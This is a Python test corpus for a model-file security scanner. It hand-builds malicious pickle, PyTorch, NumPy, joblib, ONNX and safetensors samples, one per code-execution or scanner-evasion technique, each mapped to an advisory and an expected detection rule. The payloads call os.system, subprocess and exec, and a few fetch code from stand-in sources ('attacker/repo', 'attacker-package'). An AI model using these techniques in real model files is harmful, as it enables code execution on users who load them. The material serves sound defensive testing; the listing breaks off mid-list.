"""The malicious corpus: one sample per attack technique, assembled from pickle opcodes.

    python tests/security/corpus.py OUTDIR        # write every sample (the bench uses this)

Nothing here (or in the tests) ever loads a sample with anything but modelport: the samples are
bytes written by hand, opcode by opcode. Every payload tries to create the canary file given to
``build_all``; the canary test asserts it never appears.

Each ``Sample`` names its technique, the public advisory where there is one, and the rule
modelport must report. Samples that need a library (torch, onnx, lz4) are left out when it is
missing, so their tests skip.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import os
import struct
import sys
import tarfile
import warnings
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

__all__ = ["Sample", "SAMPLES", "build_all", "P", "zip_bytes", "Member"]


# --------------------------------------------------------------------------- opcode assembler


class P:
    """Pickle opcodes as bytes (Lib/pickletools.py); ``P.pickle(...)`` wraps them in PROTO/STOP."""

    MARK, STOP, POP, TUPLE, LIST, DICT = b"(", b".", b"0", b"t", b"l", b"d"
    REDUCE, BUILD, NEWOBJ, OBJ, STACK_GLOBAL = b"R", b"b", b"\x81", b"o", b"\x93"
    EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE, SETITEMS, APPENDS = b"}", b"]", b")", b"u", b"e"
    MEMOIZE, NONE, TRUE, FALSE, TUPLE1, TUPLE2 = b"\x94", b"N", b"\x88", b"\x89", b"\x85", b"\x86"
    BINPERSID = b"Q"

    @staticmethod
    def proto(n: int) -> bytes:
        return b"\x80" + bytes([n])

    @staticmethod
    def glob(module: str, name: str) -> bytes:
        return b"c" + f"{module}\n{name}\n".encode()

    @staticmethod
    def inst(module: str, name: str) -> bytes:
        return b"i" + f"{module}\n{name}\n".encode()

    @staticmethod
    def s(text: str) -> bytes:
        raw = text.encode()
        return b"X" + struct.pack("<I", len(raw)) + raw

    @staticmethod
    def b(raw: bytes) -> bytes:
        return b"B" + struct.pack("<I", len(raw)) + raw

    @staticmethod
    def i(n: int) -> bytes:
        return b"J" + struct.pack("<i", n)

    @staticmethod
    def put(k: int) -> bytes:
        return b"q" + bytes([k])

    @staticmethod
    def get(k: int) -> bytes:
        return b"h" + bytes([k])

    @staticmethod
    def arg(x: object) -> bytes:
        if isinstance(x, Raw):
            return x.ops
        if isinstance(x, str):
            return P.s(x)
        if isinstance(x, bytes):
            return P.b(x)
        if isinstance(x, bool) or x is None:
            return {True: P.TRUE, False: P.FALSE, None: P.NONE}[x]
        if isinstance(x, int):
            return P.i(x)
        if isinstance(x, (list, tuple)):
            body = P.MARK + b"".join(P.arg(v) for v in x)
            return body + (P.LIST if isinstance(x, list) else P.TUPLE)
        if isinstance(x, dict):
            return P.MARK + b"".join(P.arg(k) + P.arg(v) for k, v in x.items()) + P.DICT
        raise TypeError(x)

    @staticmethod
    def call(module: str, name: str, *args: object) -> Raw:
        return Raw(P.glob(module, name) + P.arg(tuple(args)) + P.REDUCE)

    @staticmethod
    def pickle(*parts: bytes | Raw, proto: int = 2) -> bytes:
        body = b"".join(p.ops if isinstance(p, Raw) else p for p in parts)
        return P.proto(proto) + body + P.STOP


@dataclass(frozen=True)
class Raw:
    """Opcodes that push one value (used as an argument)."""

    ops: bytes


# --------------------------------------------------------------------------- a zip writer


@dataclass
class Member:
    name: str
    data: bytes
    method: int = 0  # 0 stored, 8 deflated
    flags: int = 0
    local_name: str | None = None
    crc: int | None = None


def zip_bytes(members: list[Member], prefix: bytes = b"") -> bytes:
    """A zip written header by header, so headers can disagree (what zipfile cannot write).
    Offsets are relative to the zip's own start, as ``cat prefix archive.zip`` leaves them."""
    out, central = bytearray(), bytearray()
    for m in members:
        raw = m.data
        if m.method == 8:
            c = zlib.compressobj(9, zlib.DEFLATED, -15)
            raw = c.compress(m.data) + c.flush()
        crc = zlib.crc32(m.data) if m.crc is None else m.crc
        name, lname = m.name.encode(), (m.local_name or m.name).encode()
        off = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, m.flags, m.method, 0, 0, crc,
                           len(raw), len(m.data), len(lname), 0) + lname + raw
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, m.flags, m.method, 0, 0,
                               crc, len(raw), len(m.data), len(name), 0, 0, 0, 0, 0, off) + name
    cd = len(out)
    out += central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members),
                                 len(central), cd, 0)
    return prefix + bytes(out)


# --------------------------------------------------------------------------- building blocks


def _storage_tensor() -> bytes:
    """``_rebuild_tensor_v2(<storage 0: 4 floats>, 0, (4,), (1,), False, OrderedDict())``."""
    pid = P.arg(("storage", Raw(P.glob("torch", "FloatStorage")), "0", "cpu", 4)) + P.BINPERSID
    return (P.glob("torch._utils", "_rebuild_tensor_v2") + P.MARK + pid + P.i(0) + P.arg((4,))
            + P.arg((1,)) + P.FALSE + P.call("collections", "OrderedDict").ops + P.TUPLE
            + P.REDUCE)


def torch_zip(data_pkl: bytes, extra: list[Member] | None = None, folder: str = "archive",
              **member_kw: object) -> bytes:
    """A torch.save-style zip (data.pkl, data/0, version, byteorder) around ``data_pkl``."""
    return zip_bytes([
        Member(f"{folder}/data.pkl", data_pkl, **member_kw),  # type: ignore[arg-type]
        Member(f"{folder}/data/0", struct.pack("<4f", 1, 2, 3, 4)),
        Member(f"{folder}/version", b"3\n"),
        Member(f"{folder}/byteorder", b"little"),
        *(extra or []),
    ])


def benign_state() -> bytes:
    return P.pickle(P.EMPTY_DICT, P.s("weight"), _storage_tensor(), b"s")


def legacy_file(tree: bytes, numel: int = 4) -> bytes:
    """A pre-1.6 torch.save file: magic, protocol, sys_info, tree, storage keys, storage data."""
    magic = P.pickle(b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little"))
    sys_info = P.pickle(P.arg({"protocol_version": 1001, "little_endian": True,
                               "type_sizes": {"short": 2, "int": 4, "long": 4}}))
    keys = P.pickle(P.arg(["0"]))
    data = struct.pack("<q", numel) + struct.pack(f"<{numel}f", *range(numel))
    return magic + P.pickle(b"M\xe9\x03") + sys_info + tree + keys + data


def npy_bytes(descr: str, payload: bytes, shape: tuple[int, ...] = (1,)) -> bytes:
    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


# --------------------------------------------------------------------------- the samples


@dataclass(frozen=True)
class Sample:
    name: str  # the file written (its extension is part of some techniques)
    technique: str
    advisory: str  # a public advisory or write-up, or "" for textbook techniques
    rule: str  # the rule modelport must report (among others)
    build: Callable[[str], bytes]  # canary path -> the file's bytes
    needs: str = ""  # a module the builder imports (the sample is skipped without it)


def _sh(canary: str) -> str:
    return f"touch {canary}"


def _py(canary: str) -> str:
    return f"open({canary!r}, 'w').close()"


def _system(c: str) -> Raw:
    return P.call("os", "system", _sh(c))


def _wrap(value: Raw) -> bytes:
    """A pickle whose result is ``{"x": value}`` (a state-dict-looking payload)."""
    return P.pickle(P.EMPTY_DICT, P.s("x"), value, b"s")


def _reduce(module: str, name: str, *args: object) -> Callable[[str], bytes]:
    return lambda c: _wrap(P.call(module, name, *[a(c) if callable(a) else a for a in args]))


def _stack_global(module: str, name: str) -> bytes:
    return P.s(module) + P.MEMOIZE + P.s(name) + P.MEMOIZE + P.STACK_GLOBAL


def _dotted_code(c: str) -> bytes:
    # code.InteractiveInterpreter().runsource(src): an unbound method reached by a dotted name.
    interp = P.call("code", "InteractiveInterpreter").ops
    return P.pickle(_stack_global("code", "InteractiveInterpreter.runsource") +
                    P.MARK + interp + P.s(_py(c)) + P.TUPLE + P.REDUCE, proto=4)


def _idlelib(c: str) -> bytes:
    return P.pickle(_stack_global("idlelib.pyshell", "ModifiedInterpreter.runcommand") +
                    P.MARK + P.NONE + P.s(_py(c)) + P.TUPLE + P.REDUCE, proto=4)


def _apply_result(getter: Raw, target: Raw) -> bytes:
    """getter(target) then call the result: ``attrgetter('system')(os)(cmd)``-style chains."""
    return getter.ops + P.MARK + target.ops + P.TUPLE + P.REDUCE


def _attrgetter(c: str) -> bytes:
    fn = _apply_result(P.call("_operator", "attrgetter", "system"),
                       P.call("importlib", "import_module", "os"))
    return P.pickle(fn + P.MARK + P.s(_sh(c)) + P.TUPLE + P.REDUCE)


def _methodcaller(c: str) -> bytes:
    return P.pickle(_apply_result(P.call("operator", "methodcaller", "system", _sh(c)),
                                  P.call("importlib", "import_module", "os")))


def _resolved(module: str, name: str, target: str) -> Callable[[str], bytes]:
    def build(c: str) -> bytes:
        fn = P.call(module, name, target).ops
        return P.pickle(fn + P.MARK + P.s(_sh(c)) + P.TUPLE + P.REDUCE)
    return build


def _getattr_import(c: str) -> bytes:
    fn = P.call("builtins", "getattr", P.call("importlib", "import_module", "os"), "system").ops
    return P.pickle(fn + P.MARK + P.s(_sh(c)) + P.TUPLE + P.REDUCE)


def _dotted_innocent(c: str) -> bytes:
    return P.pickle(_stack_global("torch.serialization", "os.system") + P.MARK +
                    P.s(_sh(c)) + P.TUPLE + P.REDUCE, proto=4)


def _dunder(c: str) -> bytes:
    imp = _stack_global("builtins", "__import__") + P.MARK + P.s("os") + P.TUPLE + P.REDUCE
    return P.pickle(P.glob("builtins", "getattr") + P.MARK + imp + P.s("system") + P.TUPLE +
                    P.REDUCE + P.MARK + P.s(_sh(c)) + P.TUPLE + P.REDUCE, proto=4)


def _memo_overwrite(c: str) -> bytes:
    # Slot 0 first holds a harmless name, then os.system: scanners that remember the first
    # value (or only literal operands) miss what BINGET 0 returns.
    return P.pickle(P.s("harmless") + P.put(0) + P.POP + P.glob("os", "system") + P.put(0) +
                    P.POP + P.get(0) + P.MARK + P.s(_sh(c)) + P.TUPLE + P.REDUCE)


def _memo_miss(c: str) -> bytes:
    return P.pickle(_system(c), P.POP, P.get(7))


def _stack_global_memo(c: str) -> bytes:
    # The STACK_GLOBAL operands come from the memo, not from the opcodes right before it.
    return P.pickle(P.s("posix") + P.put(1) + P.POP + P.s("system") + P.put(2) + P.POP +
                    P.get(1) + P.get(2) + P.STACK_GLOBAL + P.MARK + P.s(_sh(c)) + P.TUPLE +
                    P.REDUCE, proto=4)


def _stack_global_computed(c: str) -> bytes:
    # The module name is the result of a call (str('os')), known only when a loader runs it.
    module = P.call("builtins", "str", "os").ops
    return P.pickle(module + P.s("system") + P.STACK_GLOBAL + P.MARK + P.s(_sh(c)) +
                    P.TUPLE + P.REDUCE, proto=4)


def _ext(c: str) -> bytes:
    return P.pickle(b"\x82\x01" + P.MARK + P.s(_sh(c)) + P.TUPLE + P.REDUCE)


def _proto_mid(c: str) -> bytes:
    return P.pickle(P.EMPTY_DICT, P.POP, P.proto(4), _system(c))


def _frame(c: str) -> bytes:
    body = _system(c).ops + P.STOP
    frame = b"\x95" + struct.pack("<Q", len(body) + 9)
    inner = b"\x95" + struct.pack("<Q", len(body))  # a FRAME inside the frame
    return P.proto(4) + frame + inner + body


def _nested(c: str) -> bytes:
    return _wrap(P.call("pickle", "loads", P.pickle(_system(c))))


def _nested_b64(c: str) -> bytes:
    inner = base64.b64encode(P.pickle(_system(c))).decode()
    return _wrap(P.call("pickle", "loads", P.call("base64", "b64decode", inner)))


def _load_from_bytes(c: str) -> bytes:
    return _wrap(P.call("torch.storage", "_load_from_bytes",
                        torch_zip(P.pickle(P.EMPTY_DICT, P.s("w"), _system(c), b"s"))))


def _torch_load_bytesio(c: str) -> bytes:
    inner = legacy_file(P.pickle(P.EMPTY_DICT, P.s("w"), _system(c), b"s"), numel=0)
    return _wrap(P.call("torch", "load", P.call("io", "BytesIO", inner)))


def _broken(c: str) -> bytes:
    return P.pickle(_system(c))[:-1] + b"\xff\xfe garbage"


def _stacked(c: str) -> bytes:
    return benign_state() + P.pickle(_system(c))


def _deep(c: str) -> bytes:
    return P.proto(2) + P.MARK * 10_001 + _system(c).ops + P.STOP


def _build_on_global(c: str) -> bytes:
    state = P.arg((None, {"__reduce__": Raw(P.glob("os", "system"))}))
    return P.pickle(P.glob("collections", "OrderedDict") + state + P.BUILD)


def _tensor_hooks(c: str) -> bytes:
    pid = P.arg(("storage", Raw(P.glob("torch", "FloatStorage")), "0", "cpu", 4)) + P.BINPERSID
    hooks = P.glob("collections", "OrderedDict") + P.EMPTY_TUPLE + P.REDUCE + P.MARK + \
        P.i(0) + P.glob("os", "system") + P.SETITEMS
    tensor = (P.glob("torch._utils", "_rebuild_tensor_v2") + P.MARK + pid + P.i(0) +
              P.arg((4,)) + P.arg((1,)) + P.FALSE + hooks + P.TUPLE + P.REDUCE)
    return torch_zip(P.pickle(P.EMPTY_DICT, P.s("w"), tensor, b"s"))


def _profile_args(c: str) -> bytes:
    # Ecosystem classes (argparse.Namespace, Lightning's AttributeDict) built from callables.
    ns = P.glob("argparse", "Namespace") + P.EMPTY_TUPLE + P.NEWOBJ + P.arg(
        {"lr": 1, "hook": Raw(P.glob("os", "system"))}) + P.BUILD
    attr = P.glob("lightning.fabric.utilities.data", "AttributeDict") + P.MARK + P.MARK + \
        P.s("cmd") + P.glob("subprocess", "getoutput") + P.DICT + P.TUPLE + P.REDUCE
    return torch_zip(P.pickle(P.MARK, P.s("hparams"), ns, P.s("more"), attr, P.DICT))


def _unknown(c: str) -> bytes:
    return _wrap(P.call("mylib.setup_helpers", "post_install", _sh(c)))


def _inst(c: str) -> bytes:
    # Protocol 0: INST names the class and calls it with the marked arguments.
    return b"(S'" + _sh(c).encode() + b"'\n" + P.inst("os", "system") + b"."


def _obj(c: str) -> bytes:
    return P.pickle(P.MARK + P.glob("subprocess", "call") + P.arg(["touch", c]) + P.OBJ)


def _newobj(c: str) -> bytes:
    return P.pickle(P.glob("subprocess", "Popen") + P.arg((["touch", c],)) + P.NEWOBJ)


def _py2_eval(c: str) -> bytes:
    return b"c__builtin__\neval\n(S\"" + _py(c).encode() + b"\"\ntR."


def _logging(c: str) -> bytes:
    config = {"version": 1, "handlers": {"h": {"()": "os.system", "command": _sh(c)}},
              "root": {"handlers": ["h"]}}
    return _wrap(P.call("logging.config", "dictConfig", config))


# Containers ---------------------------------------------------------------------------------


def _payload(c: str) -> bytes:
    return P.pickle(P.EMPTY_DICT, P.s("weight"), _system(c), b"s")


def _zip_payload(c: str) -> bytes:
    return torch_zip(_payload(c))


def _zip_extra(c: str) -> bytes:
    return torch_zip(benign_state(), [Member("archive/.data/extra.pkl", _payload(c))])


def _zip_in_storage(c: str) -> bytes:
    return zip_bytes([Member("archive/data.pkl", benign_state()),
                      Member("archive/data/0", _payload(c)),
                      Member("archive/version", b"3\n")])


def _zip_name_mismatch(c: str) -> bytes:
    return torch_zip(_payload(c), local_name="archive/data.pk1")


def _zip_flags(c: str) -> bytes:
    return torch_zip(_payload(c), flags=0x1 | 0x40)


def _zip_crc(c: str) -> bytes:
    return torch_zip(_payload(c), crc=0xDEADBEEF)


def _zip_duplicate(c: str) -> bytes:
    return zip_bytes([Member("archive/data.pkl", benign_state()),
                      Member("archive/data.pkl", _payload(c)),
                      Member("archive/data/0", struct.pack("<4f", 1, 2, 3, 4))])


def _zip_compressed_storage(c: str) -> bytes:
    return zip_bytes([Member("archive/data.pkl", benign_state()),
                      Member("archive/data/0", _payload(c), method=8)])


def _zip_bomb(c: str) -> bytes:
    return torch_zip(benign_state(), [Member("archive/extra.pkl",
                                             _payload(c) + bytes(60 << 20), method=8)])


def _polyglot(c: str) -> bytes:
    return _payload(c) + torch_zip(benign_state())


def _legacy_tree(c: str) -> bytes:
    tree = P.pickle(P.EMPTY_DICT + P.MARK + P.s("weight") + _storage_tensor() + P.s("x") +
                    _system(c).ops + P.SETITEMS)
    return legacy_file(tree)


def _legacy_trailing(c: str) -> bytes:
    return legacy_file(P.pickle(P.EMPTY_DICT + P.s("weight") + _storage_tensor() + b"s")) + \
        _payload(c)


def _tar(c: str) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in (("sys_info", P.pickle(P.arg({"little_endian": True}))),
                           ("pickle", _payload(c)),
                           ("storages", P.pickle(P.i(0)) + P.pickle(P.EMPTY_LIST)),
                           ("tensors", P.pickle(P.i(0)))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _npy_object(c: str) -> bytes:
    return npy_bytes("|O", _payload(c))


def _npy_structured(c: str) -> bytes:
    return npy_bytes([("a", "<f4"), ("b", "|O")], _payload(c))  # type: ignore[arg-type]


def _npz_object(c: str) -> bytes:
    return zip_bytes([Member("ok.npy", npy_bytes("<f4", struct.pack("<f", 1.0))),
                      Member("obj.npy", npy_bytes("|O", _payload(c)), method=8)])


def _compressed(kind: str) -> Callable[[str], bytes]:
    def build(c: str) -> bytes:
        raw = _payload(c)
        if kind == "lz4":
            import lz4.frame

            return lz4.frame.compress(raw)
        return {"zlib": zlib.compress, "gzip": gzip.compress, "bz2": bz2.compress,
                "xz": lzma.compress}[kind](raw)
    return build


def _torchscript_code(c: str) -> bytes:
    import torch
    from security_ts_module import FileWriter  # this folder's helper: TorchScript needs source

    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # torch.jit: deprecated, still read
        torch.jit.save(torch.jit.script(FileWriter(c)), buf)
    return buf.getvalue()


def _torchscript_data(c: str) -> bytes:
    return zip_bytes([Member("m/data.pkl", _payload(c)),
                      Member("m/constants.pkl", P.pickle(P.EMPTY_TUPLE)),
                      Member("m/code/__torch__/m.py", b"class M(Module):\n  pass\n"),
                      Member("m/version", b"3\n")])


def _onnx_outside(c: str) -> bytes:
    return _onnx_model("../../../../../../etc/hostname")


def _onnx_model(location: str) -> bytes:
    from onnx import TensorProto, helper

    t = TensorProto(name="W", data_type=TensorProto.UINT8, dims=[4])
    t.data_location = TensorProto.EXTERNAL
    for k, v in (("location", location), ("offset", "0"), ("length", "4")):
        e = t.external_data.add()
        e.key, e.value = k, v
    g = helper.make_graph([helper.make_node("Identity", ["W"], ["Y"])], "g", [],
                          [helper.make_tensor_value_info("Y", TensorProto.UINT8, [4])], [t])
    return helper.make_model(g).SerializeToString()


def _safetensors_bad(c: str) -> bytes:
    # A key repeated in the JSON header: serde keeps the last, Python's json the last, other
    # parsers the first; two readers see two different tensors.
    header = (b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},'
              b'"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}')
    return struct.pack("<Q", len(header)) + header + struct.pack("<f", 1.0)


def _torch_zip_in_pickle(c: str) -> bytes:
    return _wrap(P.call("torch.serialization", "load",
                        P.call("io", "BytesIO", torch_zip(_payload(c)))))



# Any first byte (issue #7): CPython's unpickler takes any opcode first, no PROTO needed -------


def _bare(c: str) -> bytes:
    """The payload as opcodes with no PROTO: what follows any first opcode."""
    return _system(c).ops + P.STOP


def _first_int(c: str) -> bytes:
    return b"I1\n0" + _bare(c)  # INT 1, POP, payload: pickle.load runs it


def _first_string(c: str) -> bytes:
    return b"S'model'\n0" + _bare(c)


def _first_binbytes(c: str) -> bytes:
    return b"C\x04\x00\x00\x80?0" + _bare(c)  # starts like a float32 buffer


def _member_any_opcode(c: str) -> bytes:
    return torch_zip(benign_state(), [Member("archive/extra", b"I1\n0" + _bare(c))])


def _storage_any_opcode(c: str) -> bytes:
    return zip_bytes([Member("archive/data.pkl", benign_state()),
                      Member("archive/data/0", b"K\x070" + _bare(c)),
                      Member("archive/version", b"3\n")])


def _stacked_no_proto(c: str) -> bytes:
    return benign_state() + b"I7\n0" + _bare(c)


# Parse parity: bytes CPython reads and a stricter parser refuses (then never judges) ---------


def _long_line(c: str) -> bytes:
    return P.proto(2) + b"I" + b" " * 70_000 + b"1\n0" + _bare(c)  # strtol skips spaces


def _int_octal(c: str) -> bytes:
    return P.proto(2) + b"I010\n0" + _bare(c)  # _pickle.c: strtol base 0, octal 8


def _int_nul(c: str) -> bytes:
    return P.proto(2) + b"I12\x00junk\n0" + _bare(c)  # _pickle.c stops at the NUL


def _long_base0(c: str) -> bytes:
    return P.proto(2) + b"L0x10L\n0" + _bare(c)  # both unpicklers: int(text, 0)


def _setitem_list(c: str) -> bytes:
    return P.proto(2) + b"]Na" + P.i(0) + P.NONE + b"s0" + _bare(c)  # [None][0] = None


def _frame_straddle(c: str) -> bytes:
    # A frame ends inside a SHORT_BINUNICODE. pickle.loads (and a file with peek()) reads the
    # string on from the bytes after the frame, finds STOP: a clean pickle and some trailing
    # bytes. torch.load reads data.pkl from io.BytesIO: the C unpickler takes the string from
    # the *file*, skipping the rest of the frame, and runs what follows.
    frame = b"\x8c\x05ab"
    return torch_zip(P.proto(4) + b"\x95" + struct.pack("<Q", len(frame)) + frame +
                     b"cde.!" + _bare(c))

S = Sample
SAMPLES: list[Sample] = [
    # -- plain calls ---------------------------------------------------------------------------
    S("reduce_os_system.pkl", "GLOBAL os.system + REDUCE", "", "gadget-import",
      lambda c: _wrap(_system(c))),
    S("reduce_posix.pkl", "posix.system: the os alias blocklists forget", "", "gadget-import",
      _reduce("posix", "system", _sh)),
    S("inst_os_system.pkl", "protocol 0 INST calls os.system", "", "gadget-import", _inst),
    S("obj_subprocess.pkl", "OBJ calls subprocess.call", "", "gadget-import", _obj),
    S("newobj_popen.pkl", "NEWOBJ constructs subprocess.Popen", "", "gadget-import", _newobj),
    S("builtins_exec.pkl", "builtins.exec of a string", "", "gadget-import",
      _reduce("builtins", "exec", _py)),
    S("py2_builtin_eval.pkl", "__builtin__.eval (protocol 0, Python 2 module name)", "",
      "gadget-import", _py2_eval),
    # -- gadgets that blocklists missed --------------------------------------------------------
    S("runpy.pkl", "runpy._run_code execs a string", "", "gadget-import",
      _reduce("runpy", "_run_code", _py, {})),
    S("timeit.pkl", "timeit.timeit compiles and runs stmt", "", "gadget-import",
      _reduce("timeit", "timeit", _py)),
    S("cprofile.pkl", "cProfile.run execs a statement", "", "gadget-import",
      _reduce("cProfile", "run", _py)),
    S("pty_spawn.pkl", "pty.spawn runs a program", "", "gadget-import",
      _reduce("pty", "spawn", lambda c: ["touch", c])),
    S("multiprocessing.pkl", "multiprocessing.util.spawnv_passfds runs a program", "",
      "gadget-import", _reduce("multiprocessing.util", "spawnv_passfds", "/usr/bin/touch",
                               lambda c: ["touch", c], ())),
    S("torch_hub.pkl", "torch.hub.load downloads and runs hubconf.py", "", "gadget-import",
      _reduce("torch.hub", "load", "attacker/repo", "model")),
    S("torch_collect_env.pkl", "torch.utils.collect_env.run runs a shell command", "",
      "gadget-import",
      _reduce("torch.utils.collect_env", "run", _sh)),
    S("uuid_command.pkl", "uuid._get_command_stdout runs a command", "CVE-2026-56315",
      "gadget-import", _reduce("uuid", "_get_command_stdout", "touch", lambda c: c)),
    S("numpy_runstring.pkl", "numpy.testing's runstring is exec", "", "gadget-import",
      _reduce("numpy.testing._private.utils", "runstring", _py, {})),
    S("ctypes_cdll.pkl", "ctypes.CDLL loads a native library", "", "gadget-import",
      _reduce("ctypes", "CDLL", lambda c: c + ".so")),
    S("logging_config.pkl", "logging.config.dictConfig resolves '()' factories by name", "",
      "gadget-import", _logging),
    S("code_interpreter.pkl", "code.InteractiveInterpreter.runsource via a dotted name", "",
      "gadget-import", _dotted_code),
    S("doctest_debug.pkl", "doctest.debug_script execs a script", "", "gadget-import",
      _reduce("doctest", "debug_script", _py)),
    S("idlelib.pkl", "idlelib.pyshell.ModifiedInterpreter.runcommand", "", "gadget-import",
      _idlelib),
    S("pip_main.pkl", "pip.main installs a package", "CVE-2025-1716, GHSA-655q-fx9r-782v",
      "gadget-import", _reduce("pip", "main", ["install", "attacker-package"])),
    S("operator_attrgetter.pkl", "_operator.attrgetter on a module built at run time",
      "GHSA-955r-x9j8-7rhh, GHSA-46h3-79wf-xr6c", "computed-call", _attrgetter),
    S("operator_methodcaller.pkl", "operator.methodcaller('system', cmd)(os)",
      "GHSA-955r-x9j8-7rhh", "gadget-import", _methodcaller),
    S("pkgutil_resolve.pkl", "pkgutil.resolve_name('os:system') then call it", "",
      "computed-call", _resolved("pkgutil", "resolve_name", "os:system")),
    S("pydoc_locate.pkl", "pydoc.locate('os.system') then call it", "", "computed-call",
      _resolved("pydoc", "locate", "os.system")),
    S("importlib_getattr.pkl", "getattr(importlib.import_module('os'), 'system')", "",
      "computed-call", _getattr_import),
    S("unknown_import.pkl", "a module on no list at all (fail closed)", "", "unknown-import",
      _unknown),
    # -- names and the stream ------------------------------------------------------------------
    S("dotted_name.pkl", "STACK_GLOBAL torch.serialization + 'os.system' (protocol 4 walks "
      "dotted names)", "CVE-2025-10157", "gadget-import", _dotted_innocent),
    S("dunder_import.pkl", "builtins.__import__ via STACK_GLOBAL", "", "gadget-import", _dunder),
    S("memo_overwrite.pkl", "a memo slot rewritten with os.system before BINGET", "",
      "gadget-import", _memo_overwrite),
    S("memo_miss.pkl", "a call, then BINGET of a slot never stored", "", "memo-miss", _memo_miss),
    S("stack_global_memo.pkl", "STACK_GLOBAL operands fetched from the memo",
      "GHSA-9gvj-pp9x-gcfr", "gadget-import", _stack_global_memo),
    S("stack_global_computed.pkl", "STACK_GLOBAL whose module name is a call's result", "",
      "computed-global", _stack_global_computed),
    S("ext_opcode.pkl", "EXT1 names a global through copyreg's registry", "", "ext-opcode", _ext),
    S("proto_mid_stream.pkl", "PROTO in mid-stream", "", "proto-mid-stream", _proto_mid),
    S("frame_overlap.pkl", "a FRAME inside a FRAME", "", "frame", _frame),
    S("nested_pickle.pkl", "pickle.loads of a second pickle", "", "gadget-import", _nested),
    S("nested_base64.pkl", "pickle.loads(base64.b64decode(...))", "", "gadget-import",
      _nested_b64),
    S("nested_load_from_bytes.pkl", "torch.storage._load_from_bytes of a torch archive", "",
      "gadget-import", _load_from_bytes),
    S("nested_torch_load.pkl", "torch.load(io.BytesIO(<legacy torch file>))", "",
      "gadget-import", _torch_load_bytesio),
    S("nested_zip_in_pickle.pkl", "torch.serialization.load(io.BytesIO(<torch zip>))", "",
      "gadget-import", _torch_zip_in_pickle),
    S("broken_after_payload.pkl", "the payload, then garbage: scanners give up, loaders have "
      "already run it", "GHSA-9gvj-pp9x-gcfr", "broken-after-code", _broken),
    S("stacked.pkl", "a benign pickle, then a second one with the payload", "",
      "gadget-import", _stacked),
    S("deep_marks.pkl", "10 001 nested MARKs before the payload (resource limit)", "", "limit",
      _deep),
    S("build_on_global.pkl", "BUILD sets attributes on an imported class", "",
      "build-on-global", _build_on_global),
    # -- torch archives ------------------------------------------------------------------------
    S("tensor_hooks.pt", "a tensor whose backward hooks are os.system", "", "tensor-hooks",
      _tensor_hooks),
    S("profile_args.ckpt", "Namespace/AttributeDict hyper-parameters holding callables", "",
      "profile-args", _profile_args),
    S("pytorch_model.bin", "a raw pickle named .bin (scanners that pick parsers by extension)",
      "CVE-2025-1889, GHSA-769v-p64c-89pr, CVE-2025-10155", "gadget-import",
      lambda c: _payload(c)),
    S("torch_zip.pt", "a torch.save zip whose data.pkl runs os.system", "", "gadget-import",
      _zip_payload),
    S("zip_extra_member.pt", "the payload in a member torch does not read", "",
      "gadget-import", _zip_extra),
    S("zip_payload_in_storage.pt", "the payload in a storage member (data/0)", "",
      "gadget-import", _zip_in_storage),
    S("zip_name_mismatch.pt", "local and central names differ: zipfile refuses, torch reads",
      "CVE-2025-1944, GHSA-7q5r-7gvp-wc82", "zip-name-mismatch", _zip_name_mismatch),
    S("zip_flag_bits.pt", "encryption/strong-encryption flag bits set", "CVE-2025-1945, "
      "GHSA-w8jq-xcqf-f792", "zip-flags", _zip_flags),
    S("zip_bad_crc.pt", "a wrong CRC: zipfile raises, torch ignores it", "CVE-2025-10156",
      "zip-crc", _zip_crc),
    S("zip_duplicate.pt", "two members named data.pkl", "", "zip-duplicate", _zip_duplicate),
    S("zip_compressed_storage.pt", "a deflated storage member hiding a pickle", "",
      "compressed-storage", _zip_compressed_storage),
    S("zip_bomb.pt", "a member that inflates 1000x", "", "zip-bomb", _zip_bomb),
    S("polyglot.pt", "a pickle with a clean torch zip appended: torch.load reads the pickle, "
      "zip tools the archive", "", "polyglot", _polyglot),
    S("legacy_tree.pt", "a legacy (stacked) torch file whose tree pickle calls os.system",
      "CVE-2025-32434", "gadget-import", _legacy_tree),
    S("legacy_trailing.pt", "a legacy torch file with a pickle after its storages", "",
      "gadget-import", _legacy_trailing),
    S("legacy.tar", "a legacy torch tar archive whose 'pickle' member runs os.system",
      "CVE-2025-32434", "gadget-import", _tar),
    S("torchscript_data.pt", "a TorchScript archive whose data.pkl runs os.system", "",
      "gadget-import", _torchscript_data),
    S("torchscript_code.pt", "TorchScript code that writes files (torch.save in forward)", "",
      "torchscript-file-op", _torchscript_code, needs="torch"),
    # -- numpy, compressed streams, headers ----------------------------------------------------
    S("object_array.npy", "an object .npy: np.load(allow_pickle=True) unpickles it", "",
      "gadget-import", _npy_object),
    S("structured_object.npy", "a structured dtype with an object field", "", "gadget-import",
      _npy_structured),
    S("object_member.npz", "an npz with a deflated object member", "", "gadget-import",
      _npz_object),
    *[S(f"joblib_{k}.joblib", f"a {k}-compressed pickle (joblib compress='{k}')", "",
        "gadget-import", _compressed(k), needs="lz4" if k == "lz4" else "")
      for k in ("zlib", "gzip", "bz2", "xz", "lz4")],
    S("external_outside.onnx", "ONNX external data that points out of the model folder", "",
      "onnx-external-path", _onnx_outside, needs="onnx"),
    S("duplicate_key.safetensors", "a safetensors header that repeats a key", "",
      "safetensors-header", _safetensors_bad),
    # -- any first byte, parse parity (issue #7) -------------------------------------------------
    S("first_opcode_int.bin", "a pickle that starts with a text INT, no PROTO", "",
      "gadget-import", _first_int),
    S("first_opcode_string.bin", "a pickle that starts with a STRING", "", "gadget-import",
      _first_string),
